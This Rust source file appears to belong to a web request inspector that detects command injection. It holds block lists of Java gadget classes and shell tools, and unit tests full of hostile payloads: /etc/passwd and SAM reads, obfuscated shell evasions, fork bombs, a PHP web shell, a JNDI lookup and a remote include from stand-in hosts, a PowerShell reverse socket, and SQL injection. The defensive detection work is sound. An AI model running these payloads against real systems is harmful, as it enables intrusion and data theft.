const JAVA_TOKENS: &[&[u8]] = &[
    b"_memberaccess",
    b"annotationinvocationhandler",
    b"chainedtransformer",
    b"classloader",
    b"clonetransformer",
    b"constanttransformer",
    b"declaredclass",
    b"forclosure",
    b"instantiatefactory",
    b"instantiatetransformer",
    b"invokertransformer",
    b"javassist",
    b"jdbcrowsetimpl",
    b"ognlcontext",
    b"ognlutil",
    b"processbuilder",
    b"propertyutilsbean",
    b"prototypeclonefactory",
    b"prototypeserializationfactory",
    b"scriptenginemanager",
    b"templatesimpl",
    b"urlclassloader",
    b"whileclosure",
    b"xmldecoder",
];

/// Commands too specific to appear in prose: any argument counts.
const ANY_ARG: &[&[u8]] = &[
    b"busybox",
    b"nslookup",
    b"wget",
    b"nc",
    b"ncat",
    b"netcat",
    b"powershell",
    b"pwsh",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"mkfifo",
    b"socat",
    b"chmod",
    b"useradd",
    b"crontab",
    b"xterm",
    b"invoke-expression",
    b"iex",
    b"get-content",
    b"rundll32",
    b"mshta",
];

/// Network commands whose argument is a host name.
const NETWORK: &[&[u8]] = &[
    b"ping",
    b"dig",
    b"curl",
    b"telnet",
    b"tftp",
    b"ssh",
    b"host",
    b"nslookup",
    b"wget",
];

/// An argument that looks like one: an option, a path, a number, a URL, a
/// variable, a redirection; with a strong separator anything counts.
fn arg_shaped(s: &[u8], k: usize, strong: bool) -> bool {
    let Some(&a) = s.get(k) else { return false };
    if strong {
        return true;
    }
    matches!(
        a,
        b'-' | b'/' | b'\\' | b'.' | b'~' | b'$' | b'0'
            ..=b'9' | b'\'' | b'"' | b'%' | b'{' | b'(' | b'>' | b'<' | b'|' | b'`'
    ) || s
        .get(k..)
        .is_some_and(|r| r.starts_with(b"http") || r.starts_with(b"c:") || r.starts_with(b"ftp"))
        || obfuscated_word(s, k)
}

/// The word at `k` (at most 32 bytes) holds what only a shell drops from a
/// word: an empty quote pair inside it, `$@`, an unset `${X}` or a
/// backslash before a letter (`a''u''x`, `a$@u$@x`, `a${bq}ux`, `a\ux`:
/// commix's tamper scripts spell a command's arguments so).
fn obfuscated_word(s: &[u8], k: usize) -> bool {
    let word = s.get(k..).unwrap_or(&[]);
    let end = word
        .iter()
        .take(32)
        .position(|&b| matches!(b, b' ' | b'\n' | b';' | b'|' | b'&'))
        .unwrap_or(word.len().min(32));
    let word = &word[..end];
    word.windows(2).enumerate().any(|(p, t)| {
        let inner = p > 0;
        match t {
            b"''" | b"\"\"" => inner,
            b"$@" => true,
            [b'\\', c] => inner && c.is_ascii_lowercase(),
            b"${" => empty_expansion(word, p).is_some(),
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::super::normalize::{normalize, Encoding, WINDOW};
    use super::*;

    fn rce(raw: &str) -> bool {
        let mut buf = [0u8; WINDOW];
        detect(&normalize(raw.as_bytes(), Encoding::FORM, &mut buf))
    }

    #[test]
    fn session_eleven_commix_kinds() {
        for p in [
            // Ctrl-Z (`%1a`) as a separator.
            "x\x1aid",
            "\x1acat /etc/hostname",
            // A shell conditional opening the value (time-based probes).
            ";if [ 1 -eq 1 ];then sleep 3;fi",
            "\nif [ 6 -eq $abc1 ]\nthen sleep 1\nfi",
            ";if [[ $x ]]; then id; fi",
            ";if test -f /x; then id;fi",
            // `\n` followed by another escape inside the word.
            "|u\\n\\a\\m\\e",
            ";h\\os\\t\\n\\a\\me\\",
            // Arguments spelled with what the shell drops.
            "\nps a''u''x",
            "\nps a$@u$@x",
            // PHP concatenation to the application's string.
            ".system('id')",
            ".popen('ps aux')}}",
            // A program word spelled for a shell, alone or with arguments.
            "h^o^s^tn^am^e^",
            "i\"\"d",
            "i$@d$@",
            "e${bx}n${bz}v",
            "ifc\\o\\n\\f\\ig\\",
            "d^ir c^:\\",
            // cmd's delay, echo of a shell variable, a quoted delay, ASP.
            "timeout /t 3",
            " 'sleep 50'",
            "response.write 111111",
            ":response.write(\"x\")",
            "echo $BASH_VERSION",
            "echo ${HOME}",
            // A path segment that opens with a separator.
            "/api/x/;echo hello",
            // SSI directives besides `exec`.
            "<!--#printenv -->",
            ";${SHELL} -c id",
            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
            // Programs of GTFOBins and LOLBAS.
            ";ffmpeg -i x",
            "x;dos2unix /etc/passwd",
            "|mpiexec -n 1 x",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            // A shell snippet inside text, a conditional without `then`.
            "see\nif [ -f x ]; then echo; fi",
            ";if [ x ] then",
            "if you can",
            // Escaped or quoted text that spells no program.
            "O''Brien",
            "say \"\"hi\"\"",
            "x^2",
            "2^10 bytes",
            "Hello ${user.name}",
            ".md5 files",
            ".net (framework)",
            "x.exec('a')",
            "timeout 30 seconds",
            "echo $5 off",
            "'sleep 8 hours'",
            "response.write is deprecated",
            "I use nginx and redis",
            "gem stones",
            "/x/;jsessionid=ABC",
            "and/;or this",
            "<!--#region -->",
        ] {
            assert!(!rce(p), "{p}");
        }
    }

    #[test]
    fn session_eleven_windows_java_and_uploads() {
        for p in [
            // cmd readers of a path under a Windows variable.
            "type %SYSTEMROOT%\\repair\\SAM",
            "dir %USERPROFILE%\\Desktop",
            // A PHP call after a `:` opening the value.
            ":phpversion();",
            // PowerShell's .NET types.
            "[System.Diagnostics.Process]::Start(\"calc\")",
            "[Reflection.Assembly]::Load($b)",
            "[ScriptBlock]::Create($s)",
            // A Java serialization stream in base64.
            "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwAC+g==",
            // PowerShell: the environment drive, file and socket classes.
            "$env:COMPUTERNAME",
            "gci env:",
            "[IO.File]::ReadAllText('c:\\windows\\win.ini')",
            "[Environment]::UserName",
            "$c=New-Object Net.Sockets.TCPClient('x',4444)",
            // ANSI-C quoting around the command word.
            "$'id'",
            "$'\\151\\144'",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "type %d% here",
            "100%/day",
            ":md5 hash",
            "[System.String]::Join(',', $a)",
            "rO0",
            "$'100'",
            "env: production",
            "$env",
            "use System.Net.Sockets.TcpClient in C#",
        ] {
            assert!(!rce(p), "{p}");
        }
        for n in [
            "authorized_keys",
            "\"id_ed25519\"",
            "../.ssh/known_hosts",
            "SUDOERS",
        ] {
            assert!(session_file_name(n.as_bytes()), "{n}");
        }
        for n in ["passwords.txt", "shadow.png", "Dockerfile", "keys", "sess_"] {
            assert!(!session_file_name(n.as_bytes()), "{n}");
        }
        for n in [".inputrc", "tomcat-users.xml", "hosts.equiv", ".Xauthority"] {
            assert!(script_file_name(n.to_ascii_lowercase().as_bytes()), "{n}");
        }
        for n in ["package.json", ".DS_Store", "server.xml", "inputs.csv"] {
            assert!(!script_file_name(n.to_ascii_lowercase().as_bytes()), "{n}");
        }
    }

    #[test]
    fn session_twelve_java_php_and_programs() {
        for t in [
            "javassist",
            "OgnlUtil",
            "PropertyUtilsBean",
            "InvokerTransformer",
            "_memberAccess",
            "rO0ABXNyABFqYXZh",
            "ACED0005737200116a617661",
        ] {
            assert!(attack_token(t.as_bytes()), "{t}");
        }
        for t in [
            "classloaders",
            "javascript",
            "ro0abc123456789",
            "aced0005",
            "aced0005zz0000000000",
            "OgnlUtils",
        ] {
            assert!(!attack_token(t.as_bytes()), "{t}");
        }
        for p in [
            // Dotted gadget, template and XML-reader classes anywhere.
            "org.dom4j.io.SAXReader",
            "x=freemarker.template.utility.Execute",
            "org.xml.sax.helpers.XMLReaderFactory",
            "a.b.whileclosure",
            // Phar-reading file functions, runkit and output capture.
            "getimagesize('phar://x.jpg')",
            "FOOimagecreatefromjpeg()",
            "runkit_function_redefine('a','','b')",
            "ob_get_contents();",
            // Programs of CRS's Unix and Windows lists that were missing.
            ";svnlook cat /repo x",
            "|zipgrep root x.zip",
            ";lz4 -d x",
            "&rdpsign /sha256 x",
        ] {
            assert!(rce(p), "{p}");
        }
        for t in [
            "whoami",
            "ifconfig",
            "NETSTAT",
            "systeminfo",
            "uname",
            "tasklist",
        ] {
            assert!(probe_command(t.as_bytes()), "{t}");
        }
        for t in [
            "Netstat", "whoamis", "id", "pwd", "hostname", "reboot", "bash", "ls",
        ] {
            assert!(!probe_command(t.as_bytes()), "{t}");
        }
        for p in [
            // CRS's evasion prefixes and shell expressions.
            "eval whoami",
            "ltrace ifconfig",
            "timeout 5 whoami",
            "timeout 10s ls -la",
            "$[ c - d ]",
            "<(lorem)",
            ">(tee x)",
            "$a ifconfig",
            "$@ whoami",
            // PowerShell cmdlets of CRS 932120's list with an argument.
            "Get-CimInstance -ClassName Win32_Process",
            "x;Get-PSSession -Name x",
            "ConvertTo-Html -InputObject x",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "timeout 5 minutes",
            "$[ 0 ]",
            ">(angry face",
            "<(a) and (b)",
            "$total time",
            "$price id card",
            "eval the results",
            "Get-Date",
            "how to use convertto-html",
        ] {
            assert!(!rce(p), "{p}");
        }
        for p in [
            "imagepng($im, '/var/www/x.php')",
            "intval('1 or 1')",
            "@strip_tags($x)",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "the freemarker manual",
            "get image size of the png",
            "job_clean()",
            "svn is a version control system",
            "pacman ghost",
        ] {
            assert!(!rce(p), "{p}");
        }
    }

    #[test]
    fn session_thirteen_program_families() {
        for p in [
            // The programs of suites CRS 932235 names by a prefix
            // (`docker-`, `chef-`, `apparmor_`, `aa-`, `dpkg-`, `ghc-`,
            // `sudo_`), each by name.
            ";docker-compose up",
            "|docker-machine ls",
            ";aa-status",
            "&&aa-enabled",
            ";chef-client -z",
            ";dpkg-reconfigure x",
            ";ghc-pkg list",
            ";sudo_logsrvd",
            // A versioned binary named the Debian way.
            ";gcc-12 x.c",
            ";clang-15 -o x x.c",
            // csh and sandbox programs of CRS's lists.
            ";setenv PATH /tmp",
            ";bwrap --bind / / sh",
            ";onintr x",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "docker-compose",
            "use docker-compose to start it",
            "/v2/registries/a%26b/docker-credentials",
            "x;aa-batteries",
            "chef-",
            "top-10 list",
            "dpkg- and rpm",
        ] {
            assert!(!rce(p), "{p}");
        }
    }

    #[test]
    fn session_ten_evasions() {
        for p in [
            // A program under a binary directory with one wildcard.
            ";/bin/ca? /etc/hosts",
            "x;/usr/bin/wh?ami",
            // A glob path inside a brace expansion.
            "{,/?s?/?i?/c?t,/e??/h?s?s,}",
            // Fork bombs, whatever the name.
            ":(){ :|:& };:",
            "f(){ f|f& };f",
            "bomb() { bomb & bomb; }; bomb",
            "f(){ f() | f() & }; f",
            // ANSI-C quoting, an empty process substitution in the word.
            "{,$'id',}",
            ";pi<()ng 127.0.0.1",
            // Variables joined into the command word.
            ";a=c;b=at;$a$b /etc/hosts",
            // An empty word before the command.
            ";$a cat test.txt",
            ";$@ id",
            // An unlisted program with an option, opening the value.
            ";perf --version",
            ";uconv -f utf-8 -t utf-8 /etc/x",
            // A prefix program running a program with any argument.
            "time curl example.org",
            "nohup wget x.example",
            // Quotes inside a program word with an argument.
            "'c'url localhost",
            "wh\"\"oami -x",
            // A PHP name joined from pieces and called.
            "(sy.(st).em)(@id)",
            "('sys'.'tem')('id')",
            "(s.y.s.t.e.m)(id)",
            // The line ends with a line break.
            "\\ls\n",
            "exec  (blah)\n",
            // A leading `cd DIR` opens a command list.
            "cd /etc && fold passwd",
            "cd /;cd etc;column passwd",
            // A brace expansion of one program word.
            "{netstat,}",
            "{ps,}",
            "<(watch file)",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "/usr/bin/*",
            "files in /usr/bin/* are programs",
            "function f(n){ return f(n-1) }",
            "a(){ b | c & }",
            "(a.b)(c)",
            "(obj.method)(x)",
            "see the --help option",
            "O'Keefe's",
            "the 'ls' command lists files",
            "time flies like an arrow",
            "python\n",
            "cd players; vinyl records",
            "const {date,} = obj",
        ] {
            assert!(!rce(p), "{p}");
        }
    }

    #[test]
    fn payloads() {
        for p in [
            ";cat /etc/passwd",
            "| id",
            "127.0.0.1 && whoami",
            "$(sleep 5)",
            "x`id`",
            "a%0aid",
            ";w'h'o'am'i",
            ";cat${IFS}/etc/passwd",
            "{cat,/etc/passwd}",
            "() { :; }; /bin/bash -c 'id'",
            "${jndi:ldap://x.oast.fun/a}",
            "<?php system($_GET['c']); ?>",
            "|| ping -c 10 127.0.0.1 ||",
            "& type c:\\windows\\win.ini",
            "__import__('os').system('id')",
            // Shell reading: empty expansions, versions, `\n` written out.
            "a; sh$XX -c whoami",
            ";c${u}at /etc/hosts",
            "$(ca$()t /etc/hosts)",
            ";gcc10.1 -o /tmp/x x.c",
            ";id\\n",
            "c{a,oun}t /etc/hosts",
            "{l,-lh}s",
            "bin/ansible",
            "/usr/sbin/useradd -m x",
            "sleep 10",
            // PHP configuration and calls in disguise.
            "allow_url_include=1",
            "memory_limit = 512M",
            "opcache.jit_buffer_size=64M",
            "engine=Off",
            "precision = 17",
            "extension=/tmp/x.so",
            "FOOfsockopen()",
            "a gzuncompress /* x */ ()",
            "return\"system\"(xyz).s",
        ] {
            assert!(rce(p), "{p}");
        }
    }

    /// `command_at` returns early for words the long list lacks.
    #[test]
    fn short_lists_are_in_the_long_one() {
        for w in BARE.iter().chain(WITH_ARGS) {
            assert!(
                commands::lookup(w).is_some(),
                "{}",
                String::from_utf8_lossy(w)
            );
        }
    }

    #[test]
    fn prose() {
        for p in [
            "engine=v8",
            "precision=high",
            "extension=pdf",
            "salt & pepper",
            "bring your ID; id cards only",
            "R&D; sleep well",
            "Use `ls -la` to list files",
            "the system (of record)",
            "Tom & Jerry | Season 1",
            "ping me; cat pictures are cute",
            "fields={id,name}",
            "*.{jpg,png}",
            "bin/readme.txt",
            "sleep 8 hours",
            "precision=high; engine=v8",
            "timezone=Europe/Paris",
            "Choose \"System\" (default)",
            "Use fsockopen to open a socket",
            "price: $5 or $10",
            "C:\\new\\folder",
        ] {
            assert!(!rce(p), "{p}");
        }
    }

    #[test]
    fn globs_substitutions_and_interpreters() {
        for p in [
            ";/???/??t /???/p??s??",
            "/???/??t /???/p??s??",
            "a|/b?n/cat /etc/hosts",
            "; /usr/bin/wh*mi",
            ";wh``oami",
            "${#PATH}",
            "$_GET",
            "$GLOBALS;",
            "$HTTP_RAW_POST_DATA",
            "@{[system \"id\"]}",
            "IO.popen(\"id\").read",
            "Kernel.exec('id')",
            "Open3.capture2('id')",
            "{wh,}oami",
            "/[e///]tc/passwd",
            "/[!a]in/cat /etc/hosts",
            "module.exports = function() {}",
            "Function(\"return process\")()",
        ] {
            assert!(rce(p), "{p}");
        }
        for p in [
            "/api/search?",
            "next=/shop/cart?step",
            "/files/*",
            "see /docs/*.md",
            "a; /api/v1/items?",
            "$_GET is PHP's query array",
            "{w,ho}ami",
            "the `` empty code span",
            "function(a, b) { return a + b }",
            "/api/items[0]/name",
            "see /docs/[id]/edit",
        ] {
            assert!(!rce(p), "{p}");
        }
    }
}

#[cfg(test)]
mod require_tests {
    use super::super::normalize::{normalize, Encoding, WINDOW};

    fn rce(raw: &str) -> bool {
        let mut buf = [0u8; WINDOW];
        super::detect(&normalize(raw.as_bytes(), Encoding::RAW, &mut buf))
    }

    #[test]
    fn a_node_module_by_name_is_no_php_include() {
        for benign in ["const fs = require('fs');", "x = require(\"express\")"] {
            assert!(!rce(benign), "{benign}");
        }
        for attack in [
            "';include('/etc/passwd');//",
            "require(\"http://evil.example/x.txt\")",
            "include($_GET['f'])",
        ] {
            assert!(rce(attack), "{attack}");
        }
    }
}

#[cfg(test)]
mod php_call_end_tests {
    use super::super::{inspect_all, Input};

    /// A PHP function's name that ends the value, after a breakout or with
    /// only blanks after it, is no call and no panic (`single_token_call`
    /// once sliced past the end: a panic caught at the FFI boundary left
    /// the whole request uninspected, the rest of an attack included).
    #[test]
    fn a_name_at_the_end_of_the_value_is_no_call() {
        for v in [
            "'exec", "'exec ", "@eval", "(exec  ", "\"eval\n", "x/'exec", "a/@eval ",
        ] {
            for target in [
                format!("/search?q={}", v.replace(' ', "+").replace('\n', "%0A")),
                format!("/files/{}", v.replace(' ', "%20").replace('\n', "%0A")),
            ] {
                let f = inspect_all(&Input {
                    target: target.as_bytes(),
                    headers: &[],
                    body: None,
                });
                assert!(f.strongest().is_none(), "{target:?}");
            }
        }
        // The rest of the request is still read.
        let f = inspect_all(&Input {
            target: b"/search?a='exec&q=1'+union+select+password+from+users--",
            headers: &[],
            body: None,
        });
        assert!(f.strongest().is_some());
    }
}
